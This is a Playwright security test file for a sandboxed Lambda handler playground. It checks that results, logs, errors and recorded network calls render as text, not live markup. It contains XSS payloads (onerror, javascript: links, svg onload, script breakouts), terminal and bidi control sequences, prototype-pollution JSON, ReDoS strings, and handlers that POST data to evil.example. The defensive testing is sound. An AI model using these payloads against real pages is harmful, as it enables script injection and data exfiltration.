import type { Page } from '@playwright/test';
import { region } from '../support/playground-parts.ts';
import { permalink, run } from '../support/playground.ts';
import { expect } from './support/attack.ts';
import { attackPage } from './support/attacked-page.ts';

// Each names `pwned`: neither an attribute nor a global of that name may come of it.
const payloads = [
  '<img src=pwned onerror="pwned=1">',
  '</script><script>pwned=1</script>',
  '</pre></section><a href="javascript:pwned=1">pwned</a>',
  '<svg onload="pwned=1"><foreignObject><iframe src="javascript:pwned"></iframe></foreignObject></svg>',
  '<style>*{display:none}/*pwned*/</style><!--?lit$pwned$?--><?lit-part pwned?>',
  '\u001b]8;;http://pwned\u0007pwned\u001b]8;;\u0007 \u001b[31mpwned\u001b[2J',
  '\u202e pwned \u2066\u2067 \u200f \u0000 pwned',
  '${pwned} {{pwned}} {%pwned%} javascript:pwned=1 file:///etc/pwned:1:1',
];

const link = (handler: string, event = '{}'): string =>
  permalink({ eventType: 'sqs/messages', event, handler, language: 'javascript' });

/** Elements and attributes that text of the sandbox has made. */
// The sources of a verdict's steps are links of the site's own.
const made = (page: Page): Promise<string[]> =>
  page.evaluate(() =>
    [...document.querySelectorAll('*')].flatMap((element) => [
      ...(/^(script|style|img|iframe|a|svg|foreignobject)$/i.test(element.localName) &&
      element.closest('section[aria-label]') &&
      !element.matches('.pg-steps a[href^="https://docs.aws.amazon.com/"]')
        ? [element.localName]
        : []),
      ...[...element.attributes]
        .filter(({ value }) => value.includes('pwned') && !element.closest('.monaco-editor'))
        .map(({ name }) => `${element.localName}[${name}]`),
    ]),
  );
const lines = `const lines = ${JSON.stringify(payloads)};`;

attackPage(
  44,
  'markup, control characters and marks in results and logs',
  async ({ page, open, say }) => {
    await open(
      link(`${lines} export const handler = async () => {
      for (const line of lines) { console.log(line); console.error({ [line.slice(0, 200)]: line }); process.stdout.write(line); }
      return lines.slice(0, 7);
    };`),
    );
    const result = await run(page);
    await expect(result).toHaveAttribute('data-outcome', 'response');
    say('shown as text');
    await expect(result).toContainText('<img src=pwned');
    await expect(region(page, 'Logs')).toContainText(payloads[1]!);
    expect(await made(page)).toEqual([]);
  },
);

attackPage(45, 'links and markup in errors and traces', async ({ page, open, say }) => {
  await open(
    link(`${lines} export const handler = async () => {
      const error = new Error(lines.slice(0, 6).join(' '));
      error.name = lines[0];
      error.stack = 'Error: x\\n' + lines.map((line) => '    at ' + line + ' (javascript:pwned=1:1:1)').join('\\n')
        + '\\n    at <b>pwned</b> (file:///var/task/index.mjs:1:1)\\n    at x (file:///var/task/pwned.mjs:9:9)';
      error.pwned = lines; error.code = lines[1];
      throw error;
    };`),
  );
  const result = await run(page);
  await expect(result).toHaveAttribute('data-outcome', 'function-error');
  say('shown as text');
  await expect(result).toContainText('<img src=pwned');
  expect(await made(page)).toEqual([]);
  expect(await result.locator('[href]').count()).toBe(0);
});

attackPage(46, 'results whose keys are those of prototypes', async ({ page, open, say }) => {
  await open(
    link(
      `export const handler = async () => JSON.parse('{"__proto__":{"pwned":1},"constructor":{"prototype":{"pwned":1}},"toString":1,"batchItemFailures":[{"__proto__":{"itemIdentifier":"pwned"}}]}');`,
    ),
  );
  const result = await run(page);
  await expect(result).toHaveAttribute('data-outcome', 'response');
  say('shown as text');
  await expect(result).toContainText('__proto__');
});

attackPage(
  47,
  'an event with keys twice, of prototypes, and numbers beyond',
  async ({ page, open, say }) => {
    const many = Array.from({ length: 3_000 }, (_, index) => `"k${index}":[${index}]`).join();
    const event = `{"a":1,"a":2,"__proto__":{"pwned":1},"n":1e308,"big":1e999,"odd":"\\ud800","Records":[{"__proto__":{"body":1}}],${many}}`;
    await open(
      link(
        'export const handler = async (event) => [event.a, event.pwned ?? null, Object.keys(event).length];',
        event,
      ),
    );
    const result = await run(page);
    await expect(result).toHaveAttribute('data-outcome', 'response');
    say('parsed in the worker');
    const answer = (await result.locator('pre').textContent()) ?? '';
    expect(JSON.parse(answer)).toEqual([2, null, 3_006]);
  },
);

attackPage(
  48,
  'texts that make patterns backtrack, in every member of an event',
  async ({ page, open, say }) => {
    const bad = `${'a-:.@/'.repeat(2_000)}!`;
    const attributes = Object.fromEntries(
      ['stringValue', 'dataType', 'binaryValue'].map((name) => [name, bad]),
    );
    const record = Object.fromEntries(
      ['messageId', 'body', 'eventSource', 'eventSourceARN', 'awsRegion', 'md5OfBody'].map(
        (name) => [name, bad],
      ),
    );
    const event = JSON.stringify({
      Records: [{ ...record, attributes: record, messageAttributes: { [bad]: attributes } }],
    });
    await open(link('export const handler = async () => 1;', event));
    await expect(region(page, 'Problems')).toContainText(/eventSource|expected|must/i);
    say('problems listed');
  },
);

attackPage(
  143,
  'recorded calls whose addresses and keys are markup',
  async ({ page, open, say }) => {
    await open(
      link(`${lines} export const handler = async () => {
      for (const line of lines) await fetch('https://evil.example/' + encodeURI(line.slice(0, 60)), { method: 'POST', headers: { 'x-pwned': 'pwned' }, body: line }).catch(() => 0);
      return 1;
    };`),
    );
    const result = await run(page);
    await expect(result).toHaveAttribute('data-outcome', 'response');
    say('shown as text');
    expect(await page.locator('section [href*=pwned], section img, section script').count()).toBe(
      0,
    );
  },
);

attackPage(
  144,
  'heaps of marks and skin tones, logged and answered',
  async ({ page, open, say }) => {
    await open(
      link(`export const handler = async () => {
      const heaps = ['\\u0301', '\\u{1f3fb}', '\\u0e33', '\\u200d'].map((one) => 'x' + one.repeat(20_000));
      for (const heap of heaps) { console.log(heap); await fetch('https://evil.example/', { method: 'POST', body: heap }).catch(() => 0); }
      return heaps;
    };`),
    );
    const result = await run(page);
    await expect(result).toHaveAttribute('data-outcome', 'response');
    await expect(result).toContainText('…');
    await page.evaluate(() => {
      for (const folded of document.querySelectorAll('section details'))
        folded.setAttribute('open', '');
    });
    say('shown, the heaps cut');
  },
);

attackPage(145, 'a million characters in fifty log entries', async ({ page, open, say }) => {
  await open(
    link(`export const handler = async () => {
      for (let i = 0; i < 49; i++) console.log('x y '.repeat(5_000));
      return 'x'.repeat(6e6);
    };`),
  );
  const result = await run(page);
  await expect(result).toHaveAttribute('data-outcome', 'response');
  await expect(region(page, 'Logs')).toContainText('x y');
  say('shown, cut');
});
